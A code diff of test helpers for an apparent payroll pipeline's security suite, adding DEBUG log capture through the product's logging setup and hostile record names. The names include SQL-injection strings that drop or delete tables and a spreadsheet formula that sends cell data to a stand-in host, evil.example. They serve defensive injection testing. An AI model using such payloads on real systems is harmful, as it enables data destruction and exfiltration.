@@ -1,18 +1,21 @@
-"""The security suite's helpers: hostile names, DEBUG log capture, a sync made to fail, the event log
-as text, and the record (`Secured`) the leak, access and injection tests read."""
+"""The security suite's helpers: hostile and formula-like names, DEBUG log capture, a sync made to
+fail, the event log as text, and the record (`Secured`) the leak, access and injection tests read."""
 
 from __future__ import annotations
 
+import contextlib
 import dataclasses
 import io
 import logging
 from dataclasses import dataclass, field
 
+from pipelines.lib.logs import configure_logging
 from tests.support.pipeline import Pipeline
 
 HOSTILE_COMPANY = 'Robert\'); DROP TABLE nmbrs.companies; -- \\N \t "x" $$ ; select 1'
 HOSTILE_LAST_NAME = "O'Neil\"; delete from nmbrs.employees; --\\"
-DEBUG_LOGGERS = ("", "zeep", "zeep.transports", "urllib3", "requests", "dagster", "pipelines")
+FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?x="&A2,"Klik hier")'  # what a spreadsheet would run
+FORMULA_COMPANY_ID = 102
 
 
 @dataclass
@@ -34,8 +37,12 @@ class Secured:
 
 
 def make_names_hostile(sandbox) -> tuple[int, tuple[int, int]]:
-    """Give company 103 and one of its employees names full of quotes, semicolons and COPY escapes."""
+    """Give company 103 and one of its employees names full of quotes, semicolons and COPY escapes,
+    and company 102 a name that is a spreadsheet formula."""
     world = sandbox.state.world
+    world._companies[FORMULA_COMPANY_ID] = dataclasses.replace(
+        world.company(FORMULA_COMPANY_ID), name=FORMULA_COMPANY
+    )
     company = world.company(103)
     world._companies[103] = dataclasses.replace(company, name=HOSTILE_COMPANY)
     employees = world.employees(103)
@@ -44,23 +51,28 @@ def make_names_hostile(sandbox) -> tuple[int, tuple[int, int]]:
 
 
 class capture_debug_logs:  # noqa: N801 - used as a context manager, reads like one
-    """Every logger at DEBUG into one buffer (zeep.transports included: the client must hold it at INFO)."""
+    """The pipeline's logging as `payroll` sets it up (PAYROLL_LOG_LEVEL=DEBUG), into one buffer, with
+    stderr (Dagster's console log) redirected there too. zeep.transports is included: the product
+    holds it at INFO."""
+
+    def __init__(self, pipeline: Pipeline):
+        self.pipeline = pipeline
 
     def __enter__(self) -> io.StringIO:
         self.buffer = io.StringIO()
-        self.handler = logging.StreamHandler(self.buffer)
-        self.handler.setLevel(logging.DEBUG)
-        self.handler.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))
-        self.saved = {name: logging.getLogger(name).level for name in DEBUG_LOGGERS}
-        for name in DEBUG_LOGGERS:
-            logging.getLogger(name).setLevel(logging.DEBUG)
-        logging.getLogger().addHandler(self.handler)
+        root = logging.getLogger()
+        self.saved = (root.level, list(root.handlers))
+        with self.pipeline.active():
+            assert configure_logging(stream=self.buffer) == "DEBUG"
+        self.stderr = contextlib.redirect_stderr(self.buffer)
+        self.stderr.__enter__()
         return self.buffer
 
     def __exit__(self, *exc) -> None:
-        logging.getLogger().removeHandler(self.handler)
-        for name, level in self.saved.items():
-            logging.getLogger(name).setLevel(level)
+        self.stderr.__exit__(*exc)
+        root = logging.getLogger()
+        root.setLevel(self.saved[0])
+        root.handlers[:] = self.saved[1]
 
 
 def failing_sync(pipeline: Pipeline):
